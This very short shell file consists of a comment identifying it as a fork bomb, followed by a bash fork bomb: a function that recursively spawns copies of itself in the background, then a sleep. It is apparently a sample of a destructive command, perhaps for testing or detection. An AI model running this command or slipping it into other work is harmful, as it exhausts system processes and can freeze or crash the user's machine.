# Is a fork bomb.
bomb() { bomb | bomb & }; bomb; sleep 20
